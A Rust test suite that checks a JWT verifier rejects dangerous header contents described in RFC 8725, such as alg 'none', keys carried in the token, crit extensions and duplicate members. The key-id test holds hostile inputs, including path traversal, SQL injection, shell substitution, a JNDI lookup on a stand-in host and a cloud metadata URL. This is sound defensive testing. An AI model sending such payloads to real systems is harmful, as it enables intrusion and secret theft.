//! What a header may ask for: an algorithm, a key, an extension, another kind of token (RFC 8725, sections 2 and 3).

use super::draft::{Case, Draft, judge};
use super::mint::{Mint, encode};
use crate::contracts::faces::Outcome::{Done, Invalid, Malformed};
use ring::signature::{Ed25519KeyPair, KeyPair};
use serde_json::json;
use std::io::ErrorKind;
use std::net::TcpListener;

/// Every way to write a word in upper and lower case.
fn spellings(word: &str) -> Vec<String> {
    (0..1 << word.len())
        .map(|upper: u32| {
            let letter = |(index, letter): (usize, char)| match upper >> index & 1 {
                0 => letter,
                _ => letter.to_ascii_uppercase(),
            };
            word.chars().enumerate().map(letter).collect()
        })
        .collect()
}

#[tokio::test]
async fn none_is_no_algorithm_however_it_is_spelled() {
    let mut values: Vec<String> = spellings("none").iter().map(|word| format!("\"{word}\"")).collect();
    values.extend(
        [
            r#""""#,
            r#"" none""#,
            r#""none ""#,
            r#""n\u006fne""#,
            r#""none\u0000""#,
            "null",
            "[]",
            r#"["none"]"#,
            "0",
            "false",
            "{}",
        ]
        .map(str::to_owned),
    );
    let mut cases = Vec::new();
    for value in values {
        let alg = value.clone();
        cases.push(Case::signed(format!("alg {value}, signed"), Invalid, move |draft| draft.alg(&alg)));
        cases.push(Case::new(format!("alg {value}, no signature"), Invalid, move |draft, _| {
            format!("{}.", draft.alg(&value).message())
        }));
    }
    cases.push(Case::new("none, no third part", Malformed, |draft, _| draft.alg(r#""none""#).message()));
    cases.push(Case::signed("no alg", Invalid, |draft| draft.header_text(|_| b"{}".to_vec())));
    cases.push(Case::new("no signature under the right alg", Invalid, |draft, _| {
        format!("{}.", draft.message())
    }));
    judge(&cases).await;
}

#[tokio::test]
async fn a_kid_is_compared_and_nothing_else() {
    let mut cases = Vec::new();
    // A secret has no name, so that any is as good as none.
    let texts = [
        String::new(),
        "../../../../../../dev/null".to_owned(),
        "/proc/self/environ".to_owned(),
        "file:///dev/null".to_owned(),
        "' OR '1'='1' --".to_owned(),
        "x' UNION SELECT 'AAAA'; --".to_owned(),
        "https://evil.test/jwks.json".to_owned(),
        "http://169.254.169.254/latest/meta-data/".to_owned(),
        "|id".to_owned(),
        "$(id)`id`".to_owned(),
        "${jndi:ldap://evil.test/a}".to_owned(),
        "%00%2e%2e%2f".to_owned(),
        "ed%00".to_owned(),
        "ED".to_owned(),
        "ed ".to_owned(),
        "\u{202e}de".to_owned(),
        "k".repeat(5_000),
    ];
    for kid in texts {
        let what = format!("kid {}", &kid[..kid.len().min(40)]);
        let change = move |draft: Draft| draft.header("kid", &json!(kid).to_string());
        cases.push(Case::signed(what, Invalid, change).on_wts(Done(0)));
    }
    for escaped in [r#""ed\u0000""#, r#""\u0000""#, r#""\r\nset-cookie: a=b""#] {
        let change = move |draft: Draft| draft.header("kid", escaped);
        cases.push(Case::signed(format!("kid {escaped}"), Invalid, change).on_wts(Done(0)));
    }
    for value in ["null", "7", "true", r#"["ed"]"#, r#"{"kid":"ed"}"#, "0.0"] {
        let change = move |draft: Draft| draft.header("kid", value);
        cases.push(Case::signed(format!("kid {value}"), Invalid, change));
    }
    cases.push(Case::signed("the issuer's kid", Done(0), |draft| draft.header("kid", r#""ed""#)));
    cases.push(Case::signed("the same, escaped", Done(0), |draft| draft.header("kid", r#""\u0065d""#)));
    judge(&cases).await;
}

#[tokio::test]
async fn no_key_comes_from_the_token() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("\"http://{}/keys\"", listener.local_addr().unwrap());
    let attacker = || Ed25519KeyPair::from_seed_unchecked(&[9; 32]).unwrap();
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "kid": "ed", "x": encode(attacker().public_key())})
        .to_string();
    let certificate = r#"["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]"#;
    let offers = [
        ("jwk", jwk.clone()),
        ("jku", url.clone()),
        ("x5u", url),
        ("x5c", certificate.to_owned()),
        ("x5c", "[]".to_owned()),
    ];
    let mut cases = Vec::new();
    for (name, value) in offers {
        for value in [value, "null".to_owned(), "7".to_owned()] {
            let what = format!("{name} {value}");
            let offer = value.clone();
            cases.push(Case::signed(format!("{what}, the issuer's signature"), Invalid, move |draft| {
                draft.header(name, &offer)
            }));
            // Signed by whoever offers it.
            cases.push(Case::new(format!("{what}, its own signature"), Invalid, move |draft, _| {
                let message = draft.alg(r#""EdDSA""#).header(name, &value).message();
                format!("{message}.{}", encode(attacker().sign(message.as_bytes())))
            }));
        }
    }
    // What only names a certificate is ignored.
    for name in ["x5t", "x5t#S256"] {
        cases.push(Case::signed(name, Done(0), |draft| draft.header(name, r#""AAAA""#)));
    }
    judge(&cases).await;
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "nobody was asked");
}

#[tokio::test]
async fn no_extension_is_understood() {
    let mut cases = Vec::new();
    for crit in [
        "[]",
        r#"["exp"]"#,
        r#"["b64"]"#,
        r#"["kid"]"#,
        r#"["http://example.com/x"]"#,
        r#""exp""#,
        "null",
        "{}",
        "[7]",
    ] {
        let change = move |draft: Draft| draft.header("crit", crit);
        cases.push(Case::signed(format!("crit {crit}"), Invalid, change));
        let change = move |draft: Draft| draft.header("b64", "false").header("crit", crit);
        cases.push(Case::signed(format!("b64 under crit {crit}"), Invalid, change));
    }
    for b64 in ["false", "true", "null", r#""false""#] {
        cases.push(Case::signed(format!("b64 {b64} without crit"), Invalid, move |draft| {
            draft.header("b64", b64)
        }));
    }
    // RFC 7797: the claims as they are, not in base64url.
    cases.push(Case::new("claims that are not encoded", Malformed, |draft, mint| {
        let draft = draft.header("b64", "false").header("crit", r#"["b64"]"#);
        let token = draft.claims_text(|_| b"x".to_vec()).signed(mint);
        token.replace(".eA.", ".e~~.")
    }));
    judge(&cases).await;
}

#[tokio::test]
async fn encrypted_nested_and_compressed_tokens_are_none() {
    let mut cases = Vec::new();
    for (name, value) in [
        ("enc", r#""A256GCM""#),
        ("enc", "null"),
        ("zip", r#""DEF""#),
        ("zip", "null"),
        ("cty", r#""JWT""#),
        ("cty", r#""jwt""#),
        ("cty", r#""application/jwt""#),
        ("cty", "7"),
    ] {
        let change = move |draft: Draft| draft.header(name, value);
        cases.push(Case::signed(format!("{name} {value}"), Invalid, change));
    }
    for alg in ["dir", "RSA-OAEP", "RSA1_5", "ECDH-ES", "PBES2-HS256+A128KW", "A128KW"] {
        cases.push(Case::new(format!("JWE by {alg}"), Malformed, move |_, _| {
            let header = json!({"alg": alg, "enc": "A256GCM", "p2c": 2_000_000_000, "zip": "DEF"});
            format!("{}.a2V5.aXY.Y2lwaGVydGV4dA.dGFn", encode(header.to_string()))
        }));
    }
    let inner = |draft: Draft, mint: &Mint| draft.clone().signed(mint).into_bytes();
    cases.push(Case::new("a token in a token", Malformed, move |draft, mint| {
        let inner = inner(draft.clone(), mint);
        draft.header("cty", r#""JWT""#).claims_text(|_| inner).signed(mint)
    }));
    cases.push(Case::new("a token in a token, as JSON text", Invalid, move |draft, mint| {
        let inner = json!(draft.clone().signed(mint)).to_string().into_bytes();
        draft.claims_text(|_| inner).signed(mint)
    }));
    judge(&cases).await;
}

#[tokio::test]
async fn a_token_s_type_is_jwt_or_access_token() {
    let mut cases = Vec::new();
    for typ in ["JWT", "jwt", "at+jwt", "AT+JWT", "application/at+jwt", "application/jwt"] {
        cases.push(Case::signed(typ, Done(0), move |draft| draft.header("typ", &json!(typ).to_string())));
    }
    for typ in [
        r#""id+jwt""#,
        r#""rt+jwt""#,
        r#""dpop+jwt""#,
        r#""logout+jwt""#,
        r#""secevent+jwt""#,
        r#""oauth-authz-req+jwt""#,
        r#""entity-statement+jwt""#,
        r#""vc+sd-jwt""#,
        r#""JOSE""#,
        r#""JWE""#,
        r#""""#,
        r#""JWT ""#,
        "null",
        "7",
        r#"["JWT"]"#,
    ] {
        cases.push(Case::signed(format!("typ {typ}"), Invalid, move |draft| draft.header("typ", typ)));
    }
    judge(&cases).await;
}

#[tokio::test]
async fn no_member_comes_twice() {
    let mut cases = Vec::new();
    for (name, value) in
        [("alg", r#""none""#), ("alg", r#""EdDSA""#), ("alg", r#""HS256""#), (r"\u0061lg", r#""none""#)]
    {
        let change = move |draft: Draft| draft.header(name, value);
        cases.push(Case::signed(format!("header with a second {name} {value}"), Invalid, change));
    }
    for name in ["kid", "typ", "x5t", "of-no-meaning"] {
        let change = move |draft: Draft| draft.header(name, r#""JWT""#).header(name, r#""JWT""#);
        cases.push(Case::signed(format!("header with two {name}"), Invalid, change));
    }
    for (name, value) in [("exp", "9999999999"), (r"e\u0078p", "0"), ("sub", r#""2""#), ("openid", r#""2""#)]
    {
        let change = move |draft: Draft| draft.claim(name, value).claim(name, value);
        cases.push(Case::signed(format!("claims with two more {name}"), Invalid, change));
    }
    for value in [r#""1""#, r#""2""#] {
        let change = move |draft: Draft| {
            let subject = draft.subject();
            draft.claim(subject, value)
        };
        cases.push(Case::signed(format!("claims with a second user {value}"), Invalid, change));
    }
    let twice = |draft: Draft| draft.claim("of-no-meaning", "1").claim("of-no-meaning", "1");
    cases.push(Case::signed("claims with two of no meaning", Invalid, twice));
    // Nobody reads what is in there.
    cases.push(Case::signed("two of a name further in", Done(0), |draft| {
        draft.claim("x", r#"{"a":1,"a":2}"#)
    }));
    judge(&cases).await;
}
